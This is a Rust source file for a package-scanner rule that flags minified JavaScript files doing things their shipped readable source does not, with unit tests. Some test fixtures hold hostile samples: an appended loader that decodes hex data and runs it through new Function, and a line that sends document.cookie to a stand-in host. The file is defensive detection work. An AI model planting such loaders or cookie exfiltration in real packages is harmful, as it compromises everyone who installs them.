//! `code/minified-differs`.

use super::{ev, finding};
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::signal::{FileFacts, Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;
use regex::Regex;
use std::collections::BTreeSet;
use std::sync::OnceLock;

diligence_finding::declare_rule! {
    /// A minified file does something its own unminified source, shipped beside it, does not.
    ///
    /// ## What it detects
    /// A `name.min.js` (`.min.cjs`, `.min.mjs`) whose source `name.js` ships in the same folder, the package
    /// root, `src/` or `lib/`, and which is at most half again as large as that source (a minified build of it, not
    /// a bundle that adds dependencies), yet has capabilities the source lacks: executing computed code, decoding
    /// or deciphering and running it, hidden module names or hidden code (critical), or spawning processes,
    /// networking, reading credentials or dumping the environment (high).
    ///
    /// ## Why it matters
    /// Reviewers read the source; Node runs `main`. The event-stream / flatmap-stream hijack (2018) shipped a
    /// readable `index.js` and a `main` pointing at `index.min.js` with an appended payload that decrypted a data
    /// file with the package's own metadata and ran it — the minified file was the only place it existed.
    ///
    /// ## Example
    /// `index.js` batches items; `index.min.js` batches items and ends with
    /// `!function(){…new Function("require", a)(require)}()`.
    ///
    /// ## Known false positives
    /// A minified build made with different flags than the shipped source (polyfills injected by a bundler) can gain
    /// `Function`-based global detection; constant `Function("return this")` is not computed code and does not
    /// count. Bundles that inline dependencies are larger than the source and are not compared. Two shapes of a
    /// faithful build are accepted for the high capabilities (never for hidden execution, which stays critical):
    /// - the minifier inlined a factory call, so `function(e){…new e.XMLHttpRequest}(window)` resolves the API
    ///   that the source reaches through a parameter (`function factory(window){…new window.XMLHttpRequest()}`
    ///   called later, jQuery's `dist-module`): a gained capability whose every use names an API the source
    ///   names in code is not gained;
    /// - the source imports a declared dependency that the minified build no longer imports (it inlined it, as
    ///   algolia's `builds/browser.min.js` inlines `@algolia/requester-browser-xhr`, smaller than its unminified
    ///   source all the same): the gained capability may be that dependency's, which is analysed as its own
    ///   package.
    pub static MINIFIED_DIFFERS = { id: "code/minified-differs", severity: Severity::High };
}

/// Capabilities whose appearance in the minified build alone is critical.
const HIDDEN_EXEC: &[Kind] = &[
    Kind::ComputedCode,
    Kind::DecodeExec,
    Kind::HiddenCode,
    Kind::HiddenModuleName,
    Kind::Decipher,
    Kind::RemoteExec,
    Kind::ReverseShell,
];

/// Capabilities whose appearance in the minified build alone is high.
const OTHER: &[Kind] = &[
    Kind::Spawn,
    Kind::Network,
    Kind::CredentialPath,
    Kind::EnvDump,
    Kind::DataFileRead,
];

/// Most a minified build may exceed its source by (bytes ratio).
const MAX_GROWTH: f64 = 1.5;

/// The unminified source of `min` (`dir/name.min.js`): `dir/name.js`, `name.js`,
/// `src/name.js` or `lib/name.js` (same extension family).
fn source_of<'p>(p: &'p PackageFacts, min: &FileFacts) -> Option<&'p FileFacts> {
    let (dir, file) = match min.path.rsplit_once('/') {
        Some((d, f)) => (Some(d), f),
        None => (None, min.path.as_str()),
    };
    let (name, ext) = [".min.js", ".min.cjs", ".min.mjs"]
        .iter()
        .find_map(|e| file.strip_suffix(e).map(|n| (n, &e[4..])))?;
    let mut candidates = Vec::new();
    if let Some(d) = dir {
        candidates.push(format!("{d}/{name}{ext}"));
    }
    for d in ["", "src/", "lib/"] {
        candidates.push(format!("{d}{name}{ext}"));
    }
    candidates.iter().find_map(|c| {
        p.files
            .iter()
            .find(|f| &f.path == c && f.kind == FileKind::JavaScript && !f.has(Kind::Unparsed))
    })
}

/// Bare package names `text` imports or requires (`from "x"`, `require("x")`, `import("x")`),
/// without subpaths; relative and `node:` specifiers are left out.
fn bare_imports(text: &str) -> BTreeSet<&str> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?:\bfrom\s*|\brequire\s*\(\s*|\bimport\s*\(\s*|\bimport\s+)["']([^"'./\s][^"'\s]*)["']"#)
            .expect("static regex")
    });
    re.captures_iter(text)
        .filter_map(|c| c.get(1))
        .map(|m| package_name(m.as_str()))
        .filter(|n| !n.starts_with("node:"))
        .collect()
}

/// The package part of a bare specifier: `@scope/name` or `name`.
fn package_name(spec: &str) -> &str {
    let mut cut = spec.match_indices('/').map(|(i, _)| i);
    let end = if spec.starts_with('@') {
        cut.nth(1)
    } else {
        cut.next()
    };
    end.map_or(spec, |i| &spec[..i])
}

/// True when `min` no longer imports a declared dependency that its source `src` imports:
/// the build inlined it, and capabilities may be that dependency's.
fn inlines_a_dependency(p: &PackageFacts, src_text: &str, min_text: &str) -> bool {
    let declared = |name: &str| {
        ["dependencies", "optionalDependencies", "peerDependencies"]
            .iter()
            .any(|k| p.manifest.get(k).and_then(|d| d.get(name)).is_some())
    };
    let min_imports = bare_imports(min_text);
    bare_imports(src_text)
        .into_iter()
        .any(|n| declared(n) && !min_imports.contains(n))
}

/// True when `name` occurs in `text` as code (an identifier or property, not inside a quoted
/// string): `new window.XMLHttpRequest()` names `XMLHttpRequest`; `"XMLHttpRequest"` does not.
fn names_in_code(text: &str, name: &str) -> bool {
    if name.is_empty() {
        return false;
    }
    let ident = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    text.match_indices(name).any(|(i, _)| {
        let before = text[..i].chars().next_back();
        let after = text[i + name.len()..].chars().next();
        !before.is_some_and(|c| ident(c) || matches!(c, '"' | '\'' | '`'))
            && !after.is_some_and(|c| ident(c) || matches!(c, '"' | '\'' | '`'))
    })
}

/// True when every use of `kind` in `min` names an API (the last segment of its detail) that
/// the source names in code: the same call, resolved only in the minified build (a factory
/// called inline with `window`).
fn same_api_in_source(min: &FileFacts, src_text: &str, kind: Kind) -> bool {
    min.of(kind).all(|s| {
        let api = s.detail.rsplit('.').next().unwrap_or("");
        api.len() >= 4 && names_in_code(src_text, api)
    })
}

/// One finding per minified file that gained capabilities over its source.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    for min in &p.files {
        if min.kind != FileKind::JavaScript {
            continue;
        }
        let Some(src) = source_of(p, min) else {
            continue;
        };
        let (Some(min_text), Some(src_text)) = (&min.text, &src.text) else {
            continue;
        };
        if min_text.len() as f64 > src_text.len() as f64 * MAX_GROWTH {
            continue;
        }
        let inlined = inlines_a_dependency(p, src_text, min_text);
        let gained: Vec<Kind> = HIDDEN_EXEC
            .iter()
            .chain(OTHER)
            .copied()
            .filter(|k| min.has(*k) && !src.has(*k))
            .filter(|k| {
                HIDDEN_EXEC.contains(k) || !(inlined || same_api_in_source(min, src_text, *k))
            })
            .collect();
        let Some(s) = min.signals.iter().find(|s| gained.contains(&s.kind)) else {
            continue;
        };
        let sev = if gained.iter().any(|k| HIDDEN_EXEC.contains(k)) {
            Severity::Critical
        } else {
            MINIFIED_DIFFERS.default_severity
        };
        let names: Vec<&str> = gained.iter().map(|k| k.as_str()).collect();
        let msg = format!(
            "`{}` does what its source `{}` does not ({})",
            min.path,
            src.path,
            names.join(", ")
        );
        let evidence = min
            .signals
            .iter()
            .filter(|o| gained.contains(&o.kind))
            .take(6)
            .map(|o| ev(min, o))
            .collect();
        out.push(finding(
            &MINIFIED_DIFFERS,
            sev,
            min,
            s,
            Locality::Function,
            msg,
            evidence,
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{hits, scan};

    const PJ: &str = r#"{"name":"batch","version":"1.0.0","main":"index.min.js"}"#;
    const SRC: &str = "'use strict';\nvar Transform = require('stream').Transform;\nfunction Batch(opts) {\n  if (!(this instanceof Batch)) return new Batch(opts);\n  opts = opts || {};\n  Transform.call(this, { objectMode: true });\n  this.size = opts.size || 100;\n  this.items = [];\n}\nBatch.prototype._transform = function (item, enc, cb) {\n  this.items.push(item);\n  if (this.items.length >= this.size) { this.push(this.items); this.items = []; }\n  cb();\n};\nmodule.exports = Batch;\n";
    const MIN: &str = "\"use strict\";var Transform=require(\"stream\").Transform;function Batch(t){if(!(this instanceof Batch))return new Batch(t);t=t||{},Transform.call(this,{objectMode:!0}),this.size=t.size||100,this.items=[]}Batch.prototype._transform=function(t,s,i){this.items.push(t),this.items.length>=this.size&&(this.push(this.items),this.items=[]),i()},module.exports=Batch;\n";

    #[test]
    fn positive_payload_appended_to_the_minified_main() {
        let payload = "!function(){try{var r=require,d=r(\"./test/fixture.json\");new Function(\"require\",Buffer.from(d[0],\"hex\").toString())(r)}catch(e){}}();\n";
        let min = format!("{MIN}{payload}");
        let s = scan(&[
            ("package.json", PJ),
            ("index.js", SRC),
            ("index.min.js", &min),
            ("test/fixture.json", "[\"00\"]"),
        ]);
        assert_eq!(
            hits(&s, "code/minified-differs"),
            vec![("index.min.js".to_string(), 2)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// The minified build of the same source: nothing gained.
    #[test]
    fn negative_faithful_minified_build() {
        let s = scan(&[
            ("package.json", PJ),
            ("index.js", SRC),
            ("index.min.js", MIN),
        ]);
        assert!(hits(&s, "code/minified-differs").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// A UMD bundle that inlines an HTTP client is much larger than the source: not compared.
    #[test]
    fn negative_bundle_with_dependencies() {
        let client = "var https=require(\"https\");function get(u,c){https.get(u,function(r){var b=\"\";r.on(\"data\",function(d){b+=d}),r.on(\"end\",function(){c(b)})})}".repeat(4);
        let min = format!("{client}{MIN}");
        let s = scan(&[
            ("package.json", PJ),
            ("index.js", SRC),
            ("dist/index.min.js", &min),
        ]);
        assert!(hits(&s, "code/minified-differs").is_empty());
    }

    /// jQuery's `dist-module` shape: the source's factory reaches `XMLHttpRequest` through a
    /// parameter named `window` and is called later; the minified build calls it inline with
    /// `window`, so only there the API resolves. Same code: nothing gained.
    #[test]
    fn negative_factory_called_inline_by_the_minifier() {
        let pj = r#"{"name":"dollar","version":"4.0.0","module":"dist/dollar.module.min.js"}"#;
        let src = "function dollarFactory( window, noGlobal ) {\n\tvar settings = {};\n\tsettings.xhr = function() {\n\t\treturn new window.XMLHttpRequest();\n\t};\n\tsettings.headers = { \"X-Requested-With\": \"XMLHttpRequest\" };\n\tif ( typeof noGlobal === \"undefined\" ) {\n\t\twindow.dollar = settings;\n\t}\n\treturn settings;\n}\n\nvar dollar = dollarFactory( window, true );\n\nexport { dollar };\nexport default dollar;\n";
        let min = "var e=function(e,t){var n={};return n.xhr=function(){return new e.XMLHttpRequest},n.headers={\"X-Requested-With\":\"XMLHttpRequest\"},void 0===t&&(e.dollar=n),n}(window,!0);export default e;export{e as dollar};\n";
        let s = scan(&[
            ("package.json", pj),
            ("dist/dollar.module.js", src),
            ("dist/dollar.module.min.js", min),
        ]);
        assert!(hits(&s, "code/minified-differs").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// A source that names `XMLHttpRequest` only in a string does not excuse a minified build
    /// that opens requests.
    #[test]
    fn positive_api_named_only_in_a_string() {
        let pj = r#"{"name":"dollar","version":"4.0.0","main":"dollar.min.js"}"#;
        let src = format!(
            "function headers() {{\n  return {{ \"X-Requested-With\": \"XMLHttpRequest\" }};\n}}\n{SRC}"
        );
        let min = format!(
            "function headers(){{return{{\"X-Requested-With\":\"XMLHttpRequest\"}}}}var x=new XMLHttpRequest;x.open(\"POST\",\"https://collect.example.net/h\"),x.send(document.cookie);{MIN}"
        );
        let s = scan(&[
            ("package.json", pj),
            ("dollar.js", &src),
            ("dollar.min.js", &min),
        ]);
        assert_eq!(
            hits(&s, "code/minified-differs"),
            vec![("dollar.min.js".to_string(), 1)]
        );
    }

    /// algolia's `builds/browser.min.js` shape: the unminified source imports its requester
    /// from a declared dependency; the minified build inlines it (and is still smaller than the
    /// source). The network capability is the dependency's, analysed as its own package.
    #[test]
    fn negative_minified_build_inlines_a_declared_dependency() {
        let pj = r#"{"name":"@acme/client-search","version":"5.0.0","dependencies":{"@acme/requester-xhr":"5.0.0","@acme/client-common":"5.0.0"}}"#;
        let body = "  search(query, options) {\n    const request = { method: \"POST\", path: \"/1/indexes/*/queries\", data: { requests: [query] } };\n    return transporter.request(request, options);\n  },\n".repeat(20);
        let src = format!(
            "// src/searchClient.ts\nimport {{ createTransporter }} from \"@acme/client-common\";\nimport {{ createXhrRequester }} from \"@acme/requester-xhr\";\nconst transporter = createTransporter({{ requester: createXhrRequester() }});\nexport const client = {{\n{body}}};\n"
        );
        let min = "function c(){function p(r){return new Promise(h=>{let m=new XMLHttpRequest;m.open(r.method,r.url,!0),Object.keys(r.headers).forEach(k=>m.setRequestHeader(k,r.headers[k])),m.onload=()=>h({status:m.status,content:m.responseText}),m.send(r.data)})}return{send:p}}import{createTransporter as t}from\"@acme/client-common\";const n=t({requester:c()});export const client={search(e,o){return n.request({method:\"POST\",path:\"/1/indexes/*/queries\",data:{requests:[e]}},o)}};\n";
        let s = scan(&[
            ("package.json", pj),
            ("dist/builds/browser.js", &src),
            ("dist/builds/browser.min.js", min),
        ]);
        assert!(hits(&s, "code/minified-differs").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// An inlined dependency excuses capabilities, never hidden execution.
    #[test]
    fn positive_inlined_dependency_does_not_excuse_hidden_execution() {
        let pj = r#"{"name":"batch","version":"1.0.0","main":"index.min.js","dependencies":{"through2":"4.0.0"}}"#;
        let src = format!("var through2 = require('through2');\n{SRC}");
        let payload = "!function(){try{var r=require,d=r(\"./test/fixture.json\");new Function(\"require\",Buffer.from(d[0],\"hex\").toString())(r)}catch(e){}}();\n";
        let min = format!("{MIN}{payload}");
        let s = scan(&[
            ("package.json", pj),
            ("index.js", &src),
            ("index.min.js", &min),
            ("test/fixture.json", "[\"00\"]"),
        ]);
        assert_eq!(
            hits(&s, "code/minified-differs"),
            vec![("index.min.js".to_string(), 2)]
        );
    }

    #[test]
    fn bare_imports_and_package_names() {
        let t = "import a from \"@s/x/sub\";\nconst b = require('y/z');\nimport('./rel');\nimport \"node:fs\";\nimport 'side';\n";
        let got: Vec<&str> = super::bare_imports(t).into_iter().collect();
        assert_eq!(got, vec!["@s/x", "side", "y"]);
        assert!(super::names_in_code(
            "new window.XMLHttpRequest()",
            "XMLHttpRequest"
        ));
        assert!(!super::names_in_code(
            "h = \"XMLHttpRequest\"",
            "XMLHttpRequest"
        ));
        assert!(!super::names_in_code(
            "new MyXMLHttpRequest()",
            "XMLHttpRequest"
        ));
    }
}
